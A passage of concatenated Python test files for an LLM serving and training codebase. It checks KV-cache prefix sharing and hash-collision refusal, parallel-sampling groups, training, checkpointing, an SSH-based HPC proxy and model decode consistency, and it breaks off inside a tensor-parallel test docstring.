    for probe in (ids, ids[:8] + [9] * 8, [9] * 16):
        for n in (1, 8, 16, 24):
            assert bm.lookup_prefix(probe, n) == \
                oracle.lookup_prefix(probe, n)


# ----- collision safety -------------------------------------------------

def test_deliberate_collision_refuses_foreign_kv():
    """Force every key to collide: a digest match whose stored tokens
    differ must be refused — the never-serve-foreign-KV guarantee lives
    in the token comparison, not in hash luck."""
    bm = BlockManager(12, BS)
    bm._key_fn = lambda parent, toks, salt: "COLLIDE"
    a = [1, 2, 3, 4, 5]
    b = [7, 8, 9, 10, 11]                # different content, same "key"
    bm.allocate(1, len(a), token_ids=a)
    bm.mark_filled(1, len(a))
    bm.allocate(2, len(b), token_ids=b)
    assert bm.cached_tokens(2) == 0, "served KV across a hash collision!"
    assert bm.stats.collision_rejects >= 1
    assert not set(bm.table(1)[:1]) & set(bm.table(2)[:1])
    # genuinely equal content still matches through the same collision
    bm.allocate(3, len(a), token_ids=a)
    assert bm.cached_tokens(3) == BS
    bm.check_invariants()


def test_collision_on_salt_refused():
    bm = BlockManager(12, BS)
    bm._key_fn = lambda parent, toks, salt: ("K", tuple(toks))  # salt-blind
    ids = [1, 2, 3, 4, 5]
    bm.allocate(1, len(ids), token_ids=ids, salt="tenantA")
    bm.mark_filled(1, len(ids))
    bm.allocate(2, len(ids), token_ids=ids, salt="tenantB")
    assert bm.cached_tokens(2) == 0
    assert bm.stats.collision_rejects >= 1


# ----- key shape / serializability --------------------------------------

def test_keys_are_fixed_size_and_serializable():
    bm = BlockManager(16, BS)
    ids = list(range(3 * BS + 1))
    bm.allocate(1, len(ids), token_ids=ids, salt="s")
    bm.mark_filled(1, len(ids))
    keys = bm.cached_block_keys()
    assert len(keys) == 3
    assert all(isinstance(k, str) and len(k) == 32 for k in keys)
    assert json.loads(json.dumps(keys)) == keys
    # and they are exactly the standalone chain the router computes
    assert set(keys) == set(chain_keys(ids, BS, salt="s"))


def test_chain_keys_depend_on_whole_prefix():
    a = chain_keys([1, 2, 3, 4, 9, 9, 9, 9], 4)
    b = chain_keys([7, 7, 7, 7, 9, 9, 9, 9], 4)
    assert a[0] != b[0]
    assert a[1] != b[1], "2nd block key must encode the 1st block too"
    assert chain_keys([1, 2, 3, 4], 4, salt="x") != \
        chain_keys([1, 2, 3, 4], 4, salt="y")
    assert block_key(None, [1, 2, 3, 4]) == a[0] == \
        chain_keys([1, 2, 3, 4], 4)[0]


def test_key_cost_is_linear_not_quadratic():
    """The old scheme held O(prefix^2/block) ints resident per chain; the
    incremental keys are fixed-size.  Proxy check: total key bytes grow
    linearly with the prefix."""
    bm = BlockManager(128, 8)
    ids = list(range(512))
    bm.allocate(1, len(ids), token_ids=ids)
    bm.mark_filled(1, len(ids))
    total = sum(len(k) for k in bm.cached_block_keys())
    assert total == 32 * (512 // 8)
