"""Sequence groups (parallel sampling, `n`/`best_of`): one request is a
group of sequences that share ONE prompt prefill — children fork off the
leader's blocks (refcounted, COW on first divergent write) — with
per-sequence position-keyed PRNG streams making sampled outputs
deterministic across engine paths, seeds, and preemption flavours."""
import jax
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.models import param_defs
from repro.models.params import materialize
from repro.serving.engine import Engine, ReqState
from repro.serving.sampling import SamplingParams


@pytest.fixture(scope="module")
def llama():
    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def mk_engine(llama, **kw):
    cfg, params = llama
    kw.setdefault("max_num_seqs", 4)
    kw.setdefault("max_model_len", 96)
    kw.setdefault("block_size", 8)
    return Engine(cfg, params, **kw)


def run_group(e, prompt, *, max_new=6, n=4, temp=0.0, seed=None,
              max_steps=500):
    rid = e.submit(np.asarray(prompt, np.int32),
                   SamplingParams(max_new_tokens=max_new, n=n, best_of=n,
                                  temperature=temp, seed=seed))
    g = e.group_of(rid)
    steps = 0
    while not g.finished:
        e.step()
        steps += 1
        assert steps < max_steps
    e.bm.check_invariants()
    return g


# ----- the acceptance property: prefill once, allocate once -----

@pytest.mark.parametrize("fast", [True, False])
def test_group_prefills_prompt_exactly_once(llama, fast):
    prompt = np.arange(1, 20)
    e1 = mk_engine(llama, fast_path=fast)
    g1 = run_group(e1, prompt, n=1)
    e4 = mk_engine(llama, fast_path=fast)
    g4 = run_group(e4, prompt, n=4)
    # greedy children are all identical to the n=1 output
    ref = g1.requests[0].output
    assert [r.output for r in g4.requests] == [ref] * 4
    # the prompt was prefilled exactly once...
    assert e4.prefill_tokens_computed == e1.prefill_tokens_computed \
        == len(prompt)
    assert e4.bm.stats.hit_tokens == 0
    assert e4.bm.stats.forks == 3
    # ...and its KV blocks were allocated exactly once: beyond the n=1
    # run's prompt blocks the group pops only its COW copies (these
    # shapes finish before any growth block)
    prompt_blocks = -(-len(prompt) // e4.block_size)
    assert e1.bm.popped_blocks == prompt_blocks
    assert e4.bm.popped_blocks == prompt_blocks + e4.bm.stats.cow_copies
    # COW fired for the shared (non-aligned) tail block: one private copy
    # per diverging sequence beyond the last one, which writes in place
    assert e4.bm.stats.cow_copies == 3


def test_group_usage_and_lifecycle_fields(llama):
    e = mk_engine(llama)
    g = run_group(e, np.arange(1, 12), n=3, max_new=4)
    assert g.finished and g.forked and g.children_created
    assert [r.child_idx for r in g.requests] == [0, 1, 2]
    assert all(r.state == ReqState.FINISHED for r in g.requests)
    assert len({r.req_id for r in g.requests}) == 3
    # blocks all returned home
    assert e.bm.free_blocks == e.bm.num_blocks


# ----- seeded determinism (the `seed` satellite) -----

def test_seeded_sampling_reproducible_across_paths_and_runs(llama):
    prompt = np.arange(1, 15)
    outs = []
    for fast in (True, True, False):
        e = mk_engine(llama, fast_path=fast)
        g = run_group(e, prompt, n=3, temp=1.0, seed=7)
        outs.append([r.output for r in g.requests])
    assert outs[0] == outs[1] == outs[2]
    # children draw from decorrelated streams: they diverge
    assert len({tuple(o) for o in outs[0]}) > 1
    # a different seed gives different samples
    e = mk_engine(llama)
    g = run_group(e, prompt, n=3, temp=1.0, seed=8)
    assert [r.output for r in g.requests] != outs[0]


def test_seeded_chunked_prefill_matches_unchunked(llama):
    prompt = np.arange(1, 30)
    e1 = mk_engine(llama, prefill_chunk_size=8)
    g1 = run_group(e1, prompt, n=3, temp=1.0, seed=3)
    e2 = mk_engine(llama)
    g2 = run_group(e2, prompt, n=3, temp=1.0, seed=3)
    assert [r.output for r in g1.requests] == \
        [r.output for r in g2.requests]


def test_unseeded_sampling_varies_with_engine_seed(llama):
    cfg, params = llama
    e1 = Engine(cfg, params, max_num_seqs=2, max_model_len=64, seed=1)
    e2 = Engine(cfg, params, max_num_seqs=2, max_model_len=64, seed=2)
    o1 = e1.generate(np.arange(1, 9), 12, temperature=1.5)
    o2 = e2.generate(np.arange(1, 9), 12, temperature=1.5)
    assert o1 != o2


# ----- best_of ranking -----

def test_best_of_ranks_by_cumulative_logprob(llama):
    e = mk_engine(llama)
    rid = e.submit(np.arange(1, 12),
                   SamplingParams(max_new_tokens=5, n=2, best_of=4,
                                  temperature=1.0, seed=5))
    g = e.group_of(rid)
    while not g.finished:
        e.step()
    assert g.best_of == 4 and g.n == 2
    ranked = g.best(2)
    assert len(ranked) == 2
    lps = sorted((r.cum_logprob for r in g.requests), reverse=True)
    assert [r.cum_logprob for r in ranked] == lps[:2]
    # greedy ties keep a stable child order
    e2 = mk_engine(llama)
    g2 = run_group(e2, np.arange(1, 12), n=3, max_new=3)
    assert [r.child_idx for r in g2.best(3)] == [0, 1, 2]


# ----- validation -----

def test_group_validation(llama):
    e = mk_engine(llama)
    with pytest.raises(ValueError, match="max_num_seqs"):
        e.submit(np.arange(1, 9), SamplingParams(max_new_tokens=4, n=8,
                                                 best_of=8))
    with pytest.raises(ValueError, match="n <= best_of"):
        e.submit(np.arange(1, 9), SamplingParams(max_new_tokens=4, n=3,
                                                 best_of=2))


# ----- fork under pressure (the satellite test) -----

def drive_group_pressure(llama, *, num_blocks, fast=True, swap_blocks=0):
    """An old long generation repeatedly steals blocks from a younger
    seeded n=3 group: children must be preempted (and resume) without
    corrupting each other's shared prompt blocks."""
    e = mk_engine(llama, num_blocks=num_blocks, fast_path=fast,
                  swap_blocks=swap_blocks)
    a = e.submit(np.arange(1, 8), SamplingParams(max_new_tokens=40))
    b = e.submit(np.arange(20, 33),
                 SamplingParams(max_new_tokens=20, n=3, best_of=3,
                                temperature=0.8, seed=11))
    g = e.group_of(b)
    steps = 0
    while e.has_work():
        e.step()
        steps += 1
        e.bm.check_invariants()
        assert steps < 3000
    outs = [e.requests[a].output] + [r.output for r in g.requests]
    assert [len(o) for o in outs] == [40, 20, 20, 20], \
        "a sequence was truncated — resize the scenario, don't compare"
    return outs, g, e


@pytest.mark.parametrize("fast", [True, False])
def test_forked_children_survive_recompute_preemption(llama, fast):
    base, _, _ = drive_group_pressure(llama, num_blocks=64, fast=fast)
    outs, g, e = drive_group_pressure(llama, num_blocks=13, fast=fast)
    assert sum(r.preemptions for r in g.requests) >= 1, \
        "scenario must preempt a group child"
    assert outs == base, "recompute preemption corrupted the group!"
    assert e.bm.free_blocks == e.bm.num_blocks


@pytest.mark.parametrize("fast", [True, False])
def test_forked_children_survive_swap_preemption(llama, fast):
    base, _, _ = drive_group_pressure(llama, num_blocks=64, fast=fast)
    outs, g, e = drive_group_pressure(llama, num_blocks=13, fast=fast,
                                      swap_blocks=32)
    assert sum(r.swap_preemptions for r in g.requests) >= 1, \
        "scenario must swap out a group child"
    assert outs == base, "swap preemption corrupted the group!"
    assert e.bm.host_blocks_used == 0


# ----- abort -----

def test_abort_group_releases_everything(llama):
    e = mk_engine(llama)
    rid = e.submit(np.arange(1, 20),
                   SamplingParams(max_new_tokens=30, n=3, best_of=3))
    g = e.group_of(rid)
    for _ in range(4):          # admit, fork, decode a little
        e.step()
    assert g.forked
    e.abort_group(rid)
    assert g.finished and g.aborted
    assert all(r.state == ReqState.FINISHED for r in g.requests)
    # the in-flight decode (fast path) may still land a token; stepping
    # must not crash, and every block must come home
    e.step()
    e.bm.check_invariants()
    assert e.bm.free_blocks == e.bm.num_blocks
    assert not e.has_work()


def test_abort_group_before_admission(llama):
    e = mk_engine(llama)
    # fill every slot so the group stays queued
    blockers = [e.submit(np.arange(1 + 9 * i, 9 + 9 * i),
                         SamplingParams(max_new_tokens=4))
                for i in range(4)]
    e.step()
    rid = e.submit(np.arange(50, 60),
                   SamplingParams(max_new_tokens=4, n=2, best_of=2))
    g = e.group_of(rid)
    e.abort_group(rid)
    assert g.finished and not g.children_created
    while e.has_work():
        e.step()
    assert all(e.requests[b].state == ReqState.FINISHED for b in blockers)
    e.bm.check_invariants()


# ----- group + prefix cache interplay -----

def test_second_group_hits_first_groups_prefix(llama):
    e = mk_engine(llama)
    prompt = np.arange(1, 20)
    run_group(e, prompt, n=2, max_new=4)
    g2 = run_group(e, prompt, n=2, max_new=4)
    # the second group's leader hits the registered prompt blocks
    assert g2.requests[0].cached_tokens >= 16
    assert e.bm.stats.hit_tokens >= 16


def test_truncated_sequence_ranks_last(llama):
    """A sequence the engine cut short (OutOfBlocks bow-out) has a
    deceptively high raw cumulative logprob — best() must rank it behind
    every complete sibling, and the API must report it as "length"."""
    e = mk_engine(llama)
    g = run_group(e, np.arange(1, 12), n=3, max_new=4, temp=1.0, seed=2)
    victim = g.requests[0]
    victim.truncated = True
    victim.cum_logprob = -0.1          # "better" than any full completion
    ranked = g.best(3)
    assert ranked[-1] is victim
    assert victim not in g.best(2)
    from repro.serving.api import ChatRequest
    req = ChatRequest(model="m", messages=[{"role": "user", "content": "x"}],
                      max_tokens=99)
    from repro.serving.api import ApiServer
    srv = ApiServer.__new__(ApiServer)
    assert srv._finish_reason(victim, req) == "length"
    assert srv._finish_reason(ranked[0], req) == "stop"
