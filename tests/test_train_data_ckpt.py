"""Training substrate, data pipeline, checkpointing, monitoring, sbatch."""
import os

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.data.pipeline import SyntheticLM
from repro.models import param_defs
from repro.models.params import materialize
from repro.train.optimizer import (
    AdamWConfig, adamw_update, global_norm, init_opt_state, lr_at)
from repro.train.trainer import make_eval_step, make_train_step


@pytest.fixture(scope="module")
def tiny():
    cfg = reduced(get_config("llama3.2-1b")).with_(vocab_size=128)
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def test_loss_decreases_over_steps(tiny):
    """A few steps on a repetitive synthetic stream must reduce loss."""
    cfg, params = tiny
    opt_cfg = AdamWConfig(lr=3e-3, warmup_steps=2, total_steps=40)
    step = jax.jit(make_train_step(cfg, opt_cfg))
    opt = init_opt_state(params)
    data = SyntheticLM(vocab_size=cfg.vocab_size, seq_len=32, batch_size=4,
                       seed=0)
    it = data.batches()
    losses = []
    for i in range(12):
        batch = next(it)
        params, opt, stats = step(params, opt, batch)
        losses.append(float(stats["loss"]))
    assert losses[-1] < losses[0] - 0.2, losses
    assert all(np.isfinite(losses))


def test_grad_accumulation_equivalent(tiny):
    """microbatches=2 must match the fused batch up to fp tolerance."""
    cfg, params = tiny
    opt_cfg = AdamWConfig(lr=1e-3, warmup_steps=1, total_steps=10)
    opt = init_opt_state(params)
    rs = np.random.RandomState(0)
    toks = rs.randint(1, cfg.vocab_size, (4, 33)).astype(np.int32)

    s1 = make_train_step(cfg, opt_cfg, microbatches=1)
    p1, _, st1 = s1(params, opt, {"tokens": jnp.asarray(toks)})
    s2 = make_train_step(cfg, opt_cfg, microbatches=2)
    p2, _, st2 = s2(params, opt,
                    {"tokens": jnp.asarray(toks.reshape(2, 2, 33))})
    assert abs(float(st1["loss"]) - float(st2["loss"])) < 1e-4
    d = jax.tree.map(lambda a, b: float(jnp.abs(a - b).max()), p1, p2)
    assert max(jax.tree.leaves(d)) < 1e-4


def test_lr_schedule_warmup_and_decay():
    cfg = AdamWConfig(lr=1e-3, warmup_steps=10, total_steps=100)
    assert float(lr_at(cfg, 0)) < float(lr_at(cfg, 5)) < float(lr_at(cfg, 10))
    assert float(lr_at(cfg, 10)) == pytest.approx(1e-3, rel=1e-3)
    assert float(lr_at(cfg, 99)) < 1e-3 * 0.2


def test_adamw_weight_decay_shrinks_params():
    p = {"w": jnp.ones((4, 4))}
    g = {"w": jnp.zeros((4, 4))}
    cfg = AdamWConfig(lr=1e-2, weight_decay=0.5, warmup_steps=0,
                      total_steps=10)
    st = init_opt_state(p)
    p2, _, _ = adamw_update(cfg, p, g, st)
    assert float(p2["w"][0, 0]) < 1.0


def test_global_norm():
    t = {"a": jnp.asarray([3.0]), "b": jnp.asarray([4.0])}
    assert float(global_norm(t)) == pytest.approx(5.0)


def test_eval_step(tiny):
    cfg, params = tiny
    ev = make_eval_step(cfg)
    toks = np.random.RandomState(2).randint(1, cfg.vocab_size, (2, 33))
    out = ev(params, {"tokens": jnp.asarray(toks, jnp.int32)})
    assert np.isfinite(float(out["loss"]))


# ---------------------------------------------------------------------------
# data pipeline
# ---------------------------------------------------------------------------

def test_synthetic_data_deterministic():
    a = SyntheticLM(vocab_size=100, seq_len=16, batch_size=2, seed=7)
    b = SyntheticLM(vocab_size=100, seq_len=16, batch_size=2, seed=7)
    xa = next(a.batches())["tokens"]
    xb = next(b.batches())["tokens"]
    np.testing.assert_array_equal(xa, xb)
    c = SyntheticLM(vocab_size=100, seq_len=16, batch_size=2, seed=8)
    assert not np.array_equal(next(c.batches())["tokens"], xa)


def test_synthetic_data_shapes_and_range():
    d = SyntheticLM(vocab_size=64, seq_len=16, batch_size=3, seed=0)
    batch = next(d.batches())["tokens"]
    assert batch.shape == (3, 17)           # +1 for the shifted labels
    assert batch.min() >= 0 and batch.max() < 64


def test_byte_corpus_roundtrip():
    from repro.data.pipeline import ByteCorpus
    ids = ByteCorpus.encode("Chat AI über Slurm")
    assert ByteCorpus.decode(ids) == "Chat AI über Slurm"


# ---------------------------------------------------------------------------
# checkpointing
# ---------------------------------------------------------------------------

def test_checkpoint_roundtrip(tmp_path, tiny):
    from repro.checkpoint.store import restore, save
    cfg, params = tiny
    path = str(tmp_path / "ckpt")
    save(path, params, step=17)
    like = jax.tree.map(lambda x: jnp.zeros_like(x), params)
    got, step = restore(path, like)
    assert step == 17
    diff = jax.tree.map(lambda a, b: float(jnp.abs(a - b).max()), params, got)
    assert max(jax.tree.leaves(diff)) == 0.0


def test_checkpoint_rejects_shape_mismatch(tmp_path, tiny):
    from repro.checkpoint.store import restore, save
    cfg, params = tiny
    path = str(tmp_path / "ckpt")
    save(path, {"w": jnp.ones((2, 2))})
    with pytest.raises(Exception):
        restore(path, {"w": jnp.ones((3, 3))})


# ---------------------------------------------------------------------------
# monitoring + sbatch emission
# ---------------------------------------------------------------------------

def test_metrics_prometheus_exposition():
    from repro.core.monitoring import Metrics
    m = Metrics()
    m.counter("reqs").inc(3)
    m.gauge("up").set(1)
    h = m.histogram("lat")
    for v in (0.004, 0.02, 2.0):
        h.observe(v)
    txt = m.render_prometheus()
    assert "# TYPE reqs counter" in txt and "reqs 3.0" in txt
    assert 'lat_bucket{le="+Inf"} 3' in txt
    assert h.mean() == pytest.approx((0.004 + 0.02 + 2.0) / 3)
    assert h.quantile(0.5) == 0.02


def test_render_sbatch_script():
    from repro.slurmlite.sbatch import render_sbatch
    s = render_sbatch(job_name="chatai_llama", model="llama3.2-1b",
                      port=23456, gpus=2, time_limit_s=7200)
    assert "#SBATCH --job-name=chatai_llama" in s
    assert "--gres=gpu:2" in s
    assert "23456" in s
    # injection-safety: model name lands inside a quoted assignment
    assert 'export MODEL="llama3.2-1b"' in s
    assert "#SBATCH --time=120" in s
