"""Optional-`hypothesis` shim shared by the test suite.

`hypothesis` is an *optional* dev dependency (see DESIGN.md §Testing): the
HPC images this repo targets don't ship it, and a hard import used to take
down collection of four whole modules — including their plain unit tests.
Importing ``given/settings/st/...`` from here instead gives:

* hypothesis installed  → the real thing, with ``@pytest.mark.hypothesis``
  stamped on every ``@given`` test so tiers can select/deselect them;
* hypothesis missing    → property tests *skip* (never fail, never block
  collection) while ordinary tests in the same module still run.
"""
from __future__ import annotations

import unittest

import pytest

try:
    import hypothesis as _hyp
    from hypothesis import assume, settings, strategies as st
    from hypothesis.stateful import (
        RuleBasedStateMachine, initialize, invariant, precondition, rule)
    HAVE_HYPOTHESIS = True

    def given(*args, **kwargs):
        """hypothesis.given + the `hypothesis` pytest marker."""
        def deco(fn):
            return pytest.mark.hypothesis(_hyp.given(*args, **kwargs)(fn))
        return deco

except ImportError:
    HAVE_HYPOTHESIS = False

    _SKIP_MSG = "hypothesis not installed (optional dev dependency)"

    def given(*_args, **_kwargs):
        def deco(fn):
            # deliberately signature-less: pytest must not try to inject
            # fixtures for the original strategy-bound parameters
            def skipper():
                pytest.skip(_SKIP_MSG)
            skipper.__name__ = fn.__name__
            skipper.__doc__ = fn.__doc__
            return pytest.mark.hypothesis(skipper)
        return deco

    def assume(condition):   # noqa: ARG001 — mirror hypothesis.assume
        return True

    class settings:  # noqa: N801 — mirrors hypothesis.settings
        """Usable both as decorator and as a plain settings object
        (``Machine.TestCase.settings = settings(...)``)."""

        def __init__(self, *_args, **_kwargs):
            pass

        def __call__(self, fn):
            return fn

    class _Strategy:
        """Inert stand-in for a hypothesis strategy."""

        def __repr__(self):
            return "<stub strategy>"

        def map(self, *_a, **_k):
            return self

        def filter(self, *_a, **_k):
            return self

        def flatmap(self, *_a, **_k):
            return self

    class _StrategiesStub:
        def __getattr__(self, name):
            def factory(*_args, **_kwargs):
                return _Strategy()
            factory.__name__ = name
            return factory

    st = _StrategiesStub()

    def rule(*_args, **_kwargs):
        return lambda fn: fn

    def precondition(*_args, **_kwargs):
        return lambda fn: fn

    def invariant(*_args, **_kwargs):
        return lambda fn: fn

    def initialize(*_args, **_kwargs):
        return lambda fn: fn

    @pytest.mark.hypothesis
    class _SkippedStateful(unittest.TestCase):
        def test_stateful(self):
            raise unittest.SkipTest(_SKIP_MSG)

    class RuleBasedStateMachine:
        """Subclasses' ``.TestCase`` collects as a single skipped test."""
        TestCase = _SkippedStateful
