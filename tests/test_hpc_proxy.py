"""HPC Proxy (paper §5.4): persistent SSH link, 5 s keep-alives, automatic
reconnect, request forwarding across the ForceCommand boundary."""
from repro.core.circuit_breaker import ForceCommandBoundary, SSHResult
from repro.core.hpc_proxy import HPCProxy, SSHLink
from repro.slurmlite.clock import SimClock


def mk(entry=None):
    clock = SimClock()
    boundary = ForceCommandBoundary(
        entry or (lambda argv, stdin: SSHResult(0, b"PONG")))
    link = SSHLink(boundary)
    proxy = HPCProxy(clock, link)
    proxy.start()
    return clock, boundary, link, proxy


def test_keepalives_every_5s():
    clock, _, _, proxy = mk()
    clock.run_for(30.1)
    assert proxy.metrics.counter("proxy_keepalives").value == 6
    assert proxy.connected


def test_reconnects_after_link_cut():
    clock, _, link, proxy = mk()
    clock.run_for(10)
    link.up = False
    clock.run_for(10)                  # keepalive fails -> disconnected
    assert not proxy.connected
    assert proxy.metrics.counter("proxy_disconnects").value == 1
    link.up = True
    clock.run_for(10)
    assert proxy.connected
    assert proxy.reconnects >= 1


def test_long_outage_counts_one_reconnect_no_timer_pileup():
    """An outage spanning several failed keepalives must produce exactly
    one disconnect, one reconnect, and no pile-up of reconnect timers
    (one pending attempt at a time, not one per failed ping)."""
    clock, _, link, proxy = mk()
    clock.run_for(10)
    link.up = False
    clock.run_for(22)                  # ~4 failed keepalives while down
    assert not proxy.connected
    assert proxy.metrics.counter("proxy_disconnects").value == 1
    assert proxy.reconnects == 0       # nothing healed yet
    link.up = True
    clock.run_for(10)
    assert proxy.connected
    assert proxy.reconnects == 1       # one outage == one reconnect
    # connects: the initial start() plus exactly one heal
    assert proxy.metrics.counter("proxy_connects").value <= 2
    # and the heal didn't leave duplicate timers behind: another long
    # quiet stretch adds no further reconnects
    clock.run_for(30)
    assert proxy.reconnects == 1
    assert proxy.connected


def test_forward_builds_forcecommand_request():
    seen = {}

    def entry(argv, stdin):
        if argv == ["KEEPALIVE"]:
            return SSHResult(0, b"PONG")
        seen["argv"], seen["stdin"] = argv, stdin
        return SSHResult(0, b'{"ok":1}')

    clock, _, _, proxy = mk(entry)
    results = []
    d = proxy.forward("POST", "/v1/chat/completions", "llama", b'{"q":1}',
                      user_id="u7", stream=True)
    d.on_done(results.append)
    clock.run_for(1.0)
    assert seen["argv"] == ["REQ", "POST", "/v1/chat/completions", "llama",
                            "STREAM", "USER", "u7"]
    assert seen["stdin"] == b'{"q":1}'
    assert results and results[0].exit_code == 0


def test_forward_latency_matches_table1():
    """The SSH hop adds ~10.54 ms (paper Table 1 row 2)."""
    clock, _, link, proxy = mk()
    ts = []
    d = proxy.forward("GET", "/v1/models", "m", b"")
    d.on_done(lambda r: ts.append(clock.now()))
    t0 = clock.now()
    clock.run_for(1.0)
    assert abs((ts[0] - t0) - link.latency) < 1e-9


def test_forward_while_disconnected_errors_fast():
    clock, _, link, proxy = mk()
    link.up = False
    clock.run_for(10)                  # detect the cut
    results = []
    proxy.forward("GET", "/v1/models", "m", b"").on_done(results.append)
    clock.run_for(1.0)
    assert results[0].exit_code == 255


def test_mid_flight_connection_loss():
    clock, _, link, proxy = mk()

    results = []
    d = proxy.forward("GET", "/v1/models", "m", b"")
    d.on_done(results.append)
    link.up = False                    # cut while request is in flight
    clock.run_for(1.0)
    assert results[0].exit_code == 255
    assert not proxy.connected
