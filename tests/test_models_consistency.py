"""The strongest model-correctness invariant: incremental decoding with a
KV/state cache must reproduce the full-context forward pass, per family."""
import jax
import jax.numpy as jnp
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.models import forward, init_cache, logits_last, param_defs
from repro.models.params import materialize

# one representative per cache mechanism:
#   dense GQA (llama), qk_norm (qwen3), MLA latent (deepseek),
#   pure SSM state (mamba2), hybrid interleave + MoE (jamba),
#   sliding window (stablelm variant)
CASES = ["llama3.2-1b", "qwen3-14b", "deepseek-v2-236b", "mamba2-1.3b",
         "jamba-1.5-large-398b"]

B, S0, STEPS = 1, 12, 4


def setup(arch, **cfg_kw):
    cfg = reduced(get_config(arch))
    if cfg_kw:
        cfg = cfg.with_(**cfg_kw)
    params = materialize(param_defs(cfg), jax.random.key(3))
    toks = np.random.RandomState(5).randint(
        1, cfg.vocab_size, (B, S0 + STEPS)).astype(np.int32)
    return cfg, params, toks


def full_context_logits(cfg, params, toks, upto):
    t = jnp.asarray(toks[:, :upto])
    pos = jnp.broadcast_to(jnp.arange(upto)[None], (B, upto))
    hidden, _, _ = forward(cfg, params, t, positions=pos, mode="train")
    return logits_last(cfg, params, hidden)


def incremental_logits(cfg, params, toks):
    """Prefill S0 tokens then decode the rest; logits after each step."""
    cache = init_cache(cfg, B, S0 + STEPS + 4, dtype=jnp.float32)
    t = jnp.asarray(toks[:, :S0])
    pos = jnp.broadcast_to(jnp.arange(S0)[None], (B, S0))
    hidden, cache, _ = forward(cfg, params, t, positions=pos, mode="prefill",
                               cache=cache)
    outs = [logits_last(cfg, params, hidden)]
    for i in range(STEPS - 1):
        nxt = jnp.asarray(toks[:, S0 + i: S0 + i + 1])
        hidden, cache, _ = forward(
            cfg, params, nxt, positions=jnp.full((B,), S0 + i, jnp.int32),
            mode="decode", cache=cache)
        outs.append(logits_last(cfg, params, hidden))
    return outs


@pytest.mark.parametrize("arch", CASES)
def test_decode_matches_full_context(arch):
    cfg, params, toks = setup(arch)
    inc = incremental_logits(cfg, params, toks)
    for i, logits in enumerate(inc):
        ref = full_context_logits(cfg, params, toks, S0 + i)
        np.testing.assert_allclose(np.asarray(logits), np.asarray(ref),
                                   rtol=2e-4, atol=2e-4,
                                   err_msg=f"{arch} step {i}")


def test_sliding_window_matches_full_context():
    """The long_500k dense fallback: window attention must still satisfy the
    incremental-decode invariant."""
    cfg, params, toks = setup("llama3.2-1b", sliding_window=8)
    inc = incremental_logits(cfg, params, toks)
    for i, logits in enumerate(inc):
        ref = full_context_logits(cfg, params, toks, S0 + i)
        np.testing.assert_allclose(np.asarray(logits), np.asarray(ref),
                                   rtol=2e-4, atol=2e-4, err_msg=f"step {i}")


def test_whisper_decode_matches_full_context():
    """Enc-dec: cross-attention K/V cached at prefill must reproduce the
    train-mode forward."""
    cfg = reduced(get_config("whisper-medium"))
    params = materialize(param_defs(cfg), jax.random.key(4))
    toks = np.random.RandomState(6).randint(
        1, cfg.vocab_size, (B, S0 + 2)).astype(np.int32)
    frames = jnp.asarray(np.random.RandomState(7).normal(
        0, 0.02, (B, cfg.num_encoder_frames, cfg.d_model)), jnp.float32)
    ex = {"encoder_frames": frames}

    cache = init_cache(cfg, B, S0 + 8, dtype=jnp.float32)
    pos = jnp.broadcast_to(jnp.arange(S0)[None], (B, S0))
    hidden, cache, _ = forward(cfg, params, jnp.asarray(toks[:, :S0]),
                               positions=pos, mode="prefill", cache=cache,
                               extras=ex)
    inc = [logits_last(cfg, params, hidden)]
    for i in range(2):
        hidden, cache, _ = forward(
            cfg, params, jnp.asarray(toks[:, S0 + i:S0 + i + 1]),
            positions=jnp.full((B,), S0 + i, jnp.int32), mode="decode",
            cache=cache, extras={})
        inc.append(logits_last(cfg, params, hidden))

    for i, logits in enumerate(inc):
        upto = S0 + i
        t = jnp.asarray(toks[:, :upto])
        p = jnp.broadcast_to(jnp.arange(upto)[None], (B, upto))
        h, _, _ = forward(cfg, params, t, positions=p, mode="train",
                          extras=ex)
        ref = logits_last(cfg, params, h)
        np.testing.assert_allclose(np.asarray(logits), np.asarray(ref),
                                   rtol=2e-4, atol=2e-4, err_msg=f"step {i}")


def test_vlm_patch_embedding_injection():
    """Qwen2-VL: patch embeddings replace token embeddings where masked."""
    cfg = reduced(get_config("qwen2-vl-7b"))
    params = materialize(param_defs(cfg), jax.random.key(8))
    S = 8
    toks = jnp.asarray(np.random.RandomState(9).randint(
        1, cfg.vocab_size, (1, S)), jnp.int32)
    pos = jnp.broadcast_to(jnp.arange(S)[None], (1, S))
    pe = jnp.asarray(np.random.RandomState(10).normal(
        0, 0.5, (1, S, cfg.vision_embed_dim)), jnp.float32)
    mask = np.zeros((1, S), bool)
    mask[:, :3] = True
    mrope = jnp.broadcast_to(jnp.arange(S)[None, :, None],
                             (1, S, 3)).astype(jnp.int32)
    h1, _, _ = forward(cfg, params, toks, positions=pos, mode="train",
                       extras={"patch_embeds": pe, "mrope_positions": mrope,
                               "vision_mask": jnp.asarray(mask)})
    h2, _, _ = forward(cfg, params, toks, positions=pos, mode="train",
                       extras={"patch_embeds": pe * 2,
                               "mrope_positions": mrope,
                               "vision_mask": jnp.asarray(mask)})
    # image tokens respond to the patch embeddings; pure-text run differs
    assert float(jnp.abs(h1 - h2).max()) > 1e-4
    h3, _, _ = forward(cfg, params, toks, positions=pos, mode="train",
                       extras={"patch_embeds": pe, "mrope_positions": mrope,
                               "vision_mask": jnp.zeros((1, S), bool)})
    assert float(jnp.abs(h1 - h3).max()) > 1e-4


def test_moe_router_balance_aux_positive():
    cfg = reduced(get_config("llama4-scout-17b-a16e"))
    params = materialize(param_defs(cfg), jax.random.key(11))
    toks = jnp.asarray(np.random.RandomState(12).randint(
        1, cfg.vocab_size, (2, 16)), jnp.int32)
    pos = jnp.broadcast_to(jnp.arange(16)[None], (2, 16))
    _, _, aux = forward(cfg, params, toks, positions=pos, mode="train")
    assert float(aux) > 0.0
