"""Tensor-parallel serving equivalence (DESIGN.md §Tensor-parallel
serving): a token stream must be a pure function of (weights, prompt,
seed) — never of the replica's device geometry — so tp=2 and tp=4 greedy
AND seeded-sampled outputs must be bit-identical to tp=1 across the
jitted fast path, chunked prefill, fork groups, and swap-preemption
resume, while `compile_counts()` stays within the tp=1 bucket grid and
per-device resident KV drops with the shard count.

The pytest process owns a single CPU device, so the scenarios run in a
subprocess with forced host devices (the dryrun.py pattern): this module
